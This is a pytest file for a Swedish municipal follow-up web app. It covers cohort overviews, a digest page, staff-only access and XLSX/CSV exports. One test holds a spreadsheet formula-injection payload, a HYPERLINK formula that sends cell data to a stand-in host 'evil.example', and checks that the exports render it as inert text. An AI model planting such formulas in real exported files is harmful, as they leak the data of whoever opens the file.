"""SKR's follow-up: the cohort overview, the "På gång" digest and the exports, in the app and
as commands."""

import csv
import io
from datetime import date, datetime

import openpyxl
import sqlalchemy as sa
from sqlalchemy import event

from modell.cohorts.models import Participation
from modell.extensions import db
from modell.improvements import indicators, overview, services
from modell.organisations.models import Organisation
from tests.conftest import DEMO, login
from tests.test_improvements import LATER, a_work, participation
from tests.test_meetings import START, start_demo


def _logged(app):
    with app.app_context():
        cohort = start_demo()
        botkyrka = participation(cohort, "Botkyrka")
        work = a_work(botkyrka)
        for day, step in ((date(2019, 3, 1), 1), (date(2019, 5, 2), 3)):
            services.save_entry(
                db.session,
                work,
                services.EntryData(day, f"Steg {step}", step, expected_results=["governance"]),
                now=LATER,
                user_id=None,
            )
        ind = indicators.create_indicator(
            db.session,
            botkyrka.organisation,
            indicators.IndicatorData("Timmar", "timmar"),
            now=START,
            user_id=None,
        )
        indicators.save_value(
            db.session,
            ind,
            period="2019",
            women=12.5,
            men=10.0,
            total=22.5,
            now=START,
            user_id=None,
        )
        db.session.commit()
        return cohort.id


def test_the_overview_shows_each_organisations_steps_and_how_many_reached_3_to_4(app, ctx):
    cohort_id = _logged(app)
    from modell.cohorts.models import Cohort

    rows = overview.overview(db.session, db.session.get(Cohort, cohort_id), today=date(2019, 6, 1))
    by_name = {r.organisation.name: r for r in rows}
    assert by_name["Botkyrka"].steps == {1: 1, 2: 0, 3: 1, 4: 0}
    assert by_name["Botkyrka"].highest == 3 and by_name["Botkyrka"].results == ["governance"]
    assert by_name["Västerås"].highest is None and "baseline" in by_name["Västerås"].overdue
    picture = overview.step_picture(rows)
    assert picture["3-4"] == 1 and picture["none"] == len(rows) - 1
    by_step = overview.overview(
        db.session, db.session.get(Cohort, cohort_id), today=date(2019, 6, 1), sort="step"
    )
    assert by_step[0].organisation.name == "Botkyrka"


def test_the_overview_costs_the_same_queries_however_many_organisations_log(app, ctx):
    cohort_id = _logged(app)
    from modell.cohorts.models import Cohort

    cohort = db.session.get(Cohort, cohort_id)

    def queries():
        seen = []
        listener = lambda *args: seen.append(1)  # noqa: E731
        db.session.expire_all()
        event.listen(db.engine, "before_cursor_execute", listener)
        try:
            overview.overview(db.session, db.session.get(Cohort, cohort_id), today=date(2019, 6, 1))
        finally:
            event.remove(db.engine, "before_cursor_execute", listener)
        return len(seen)

    few = queries()
    for p in cohort.participations:
        if p.role == "benchmarking":
            work = a_work(p, title=f"Arbete {p.id}")
            for n in range(3):
                services.save_entry(
                    db.session,
                    work,
                    services.EntryData(date(2019, 4, 1 + n), "x", 2),
                    now=LATER,
                    user_id=None,
                )
    db.session.commit()
    assert queries() == few


def test_staff_read_the_overview_and_the_digest_others_do_not(app):
    cohort_id = _logged(app)
    coordinator = app.test_client()
    login(coordinator, DEMO["coordinator"])
    page = coordinator.get(f"/arbete/omgang/{cohort_id}/oversikt").get_data(True)
    assert "Botkyrka" in page and "Steg 3–4" in page
    digest = coordinator.get(f"/arbete/omgang/{cohort_id}/pa-gang?fran=2019-04-01&till=2019-06-01")
    html = digest.get_data(True)
    assert "Steg 3" in html and "Steg 1" not in html  # only the period asked for
    participant = app.test_client()
    login(participant, DEMO["participant"])
    assert participant.get(f"/arbete/omgang/{cohort_id}/oversikt").status_code == 403


def test_the_xlsx_export_has_real_dates_and_numbers_and_the_csv_is_swedish_excels(app):
    cohort_id = _logged(app)
    client = app.test_client()
    login(client, DEMO["coordinator"])
    book = openpyxl.load_workbook(
        io.BytesIO(client.get(f"/arbete/omgang/{cohort_id}/export/entries.xlsx").data)
    )
    rows = list(book.active.iter_rows(values_only=True))
    assert rows[0][0] == "Organisation" and rows[0][4] == "Datum"
    dates = sorted(r[4].date() for r in rows[1:])
    assert dates == [date(2019, 3, 1), date(2019, 5, 2)] and rows[1][5] in (1, 3)
    raw = client.get(f"/arbete/omgang/{cohort_id}/export/indicators.csv").data
    assert raw.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert table[0][:4] == ["Organisation", "Indikator", "Enhet", "Period"]
    assert table[1][4:7] == ["12,5", "10", "22,5"]


def test_the_export_command_writes_the_same_file(app, tmp_path):
    cohort_id = _logged(app)
    out = tmp_path / "oversikt.xlsx"
    result = app.test_cli_runner().invoke(
        args=[
            "modell",
            "export",
            "overview",
            "--cohort",
            str(cohort_id),
            "--format",
            "xlsx",
            "-o",
            str(out),
        ]
    )
    assert result.exit_code == 0, result.output
    rows = list(openpyxl.load_workbook(out).active.iter_rows(values_only=True))
    assert any(r[0] == "Botkyrka" and r[6] == 3 for r in rows[1:])
    only = app.test_cli_runner().invoke(
        args=[
            "modell",
            "export",
            "indicators",
            "--cohort",
            str(cohort_id),
            "--format",
            "csv",
            "--organisation",
            "0127",
        ]
    )
    assert only.exit_code == 0 and "Timmar" in only.output
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(Participation)) > 0
        assert db.session.scalar(sa.select(Organisation.id).where(Organisation.scb_code == "0127"))


def test_text_that_looks_like_a_formula_is_exported_as_text_in_xlsx_and_csv():
    from io import BytesIO

    from openpyxl import load_workbook

    from modell.improvements.exports import to_csv, to_xlsx

    evil = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
    rows = [[evil, "+1", "-2", "@SUM(A1)", 12.5, "vanlig text"]]
    book = load_workbook(BytesIO(to_xlsx(["a", "b", "c", "d", "e", "f"], rows, title="t")))
    cells = list(book.active.iter_rows(min_row=2, values_only=False))[0]
    assert all(c.data_type != "f" for c in cells)
    assert (
        cells[0].value == "'" + evil and cells[4].value == 12.5 and cells[5].value == "vanlig text"
    )
    text = to_csv(["a"], rows).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ";'+1;'-2;'@SUM(A1);12,5;" in text


def test_an_xlsx_export_keeps_dates_numbers_and_labels_with_a_bold_frozen_heading(app):
    from decimal import Decimal
    from io import BytesIO

    from flask_babel import lazy_gettext
    from openpyxl import load_workbook

    from modell.core.spreadsheets import to_xlsx

    rows = [
        [date(2019, 3, 5), Decimal("12.50"), 7, True, lazy_gettext("Mentor"), None, "Växjö"],
    ]
    with app.test_request_context(headers={"Accept-Language": "sv"}):
        content = to_xlsx(
            ["Dag", "Tal", "Antal", "Ja", "Roll", "Tom", "Namn"], rows, title="Ö" * 40
        )
    sheet = load_workbook(BytesIO(content)).active
    assert sheet.title == "Ö" * 31 and sheet.freeze_panes == "A2"
    assert all(c.font.bold for c in sheet[1]) and not sheet["A2"].font.bold
    day, number, count, yes, role, empty, name = sheet[2]
    assert day.value == datetime(2019, 3, 5) and day.number_format == "yyyy-mm-dd"
    assert (number.value, count.value, yes.value) == (12.5, 7, True)
    assert (role.value, empty.value, name.value) == ("Mentor", None, "Växjö")


def test_registrations_attendance_and_pmi_export_the_swedish_excel_way(app):
    """The registrations with their contacts, attendance by function per meeting, and
    Plus – Minus – Intressant without names, as CSV for Swedish Excel and as XLSX."""
    from datetime import timedelta

    from modell.auth.models import User
    from modell.meetings import after_meeting, invitations
    from tests.test_meetings import group_meeting

    with app.app_context():
        cohort = start_demo()
        meeting = group_meeting(cohort, "Botkyrka")
        invitations.send_invitations(db.session, meeting, now=START, user_id=None)
        strategist = next(i for i in meeting.invitations if i.person.email == DEMO["participant"])
        after = meeting.starts_at + timedelta(hours=8)
        after_meeting.record_attendance(
            db.session, meeting, {strategist.id}, now=after, user_id=None
        )
        user = db.session.scalar(sa.select(User).where(User.email == DEMO["participant"]))
        after_meeting.save_pmi(
            db.session, meeting, user, plus="Bra samtal", minus=None, interesting="Kvoter",
            now=after,
        )  # fmt: skip
        db.session.commit()
        cohort_id, title = cohort.id, meeting.title
    client = app.test_client()
    login(client, DEMO["coordinator"])

    def csv_of(kind):
        response = client.get(f"/arbete/omgang/{cohort_id}/export/{kind}.csv")
        assert response.status_code == 200 and response.data.startswith(b"\xef\xbb\xbf")
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))

    attendance = csv_of("attendance")
    assert attendance[0] == [
        "Organisation",
        "Roll",
        "Träff",
        "Datum",
        "Politiker",
        "Chef",
        "Strateg",
    ]
    botkyrka = [r for r in attendance if r[0] == "Botkyrka" and r[2] == title]
    assert botkyrka and botkyrka[0][4:] == ["nej", "nej", "ja"]
    pmi = csv_of("pmi")
    assert pmi[0] == ["Träff", "Datum", "Plus", "Minus", "Intressant"]
    assert [title, pmi[1][1], "Bra samtal", "", "Kvoter"] == pmi[1]
    assert DEMO["participant"] not in str(pmi)
    registrations = csv_of("registrations")
    assert registrations[0][:3] == ["Organisation", "Mottagen", "Status"]
    assert "Politiker – e-post" in registrations[0]
    book = openpyxl.load_workbook(
        io.BytesIO(client.get(f"/arbete/omgang/{cohort_id}/export/attendance.xlsx").data)
    )
    rows = list(book.active.iter_rows(values_only=True))
    assert rows[0][0] == "Organisation" and any(r[0] == "Botkyrka" for r in rows[1:])
    # Staff only: the registrations hold contacts' e-mail addresses.
    member = app.test_client()
    login(member, DEMO["participant"])
    assert member.get(f"/arbete/omgang/{cohort_id}/export/registrations.csv").status_code == 403
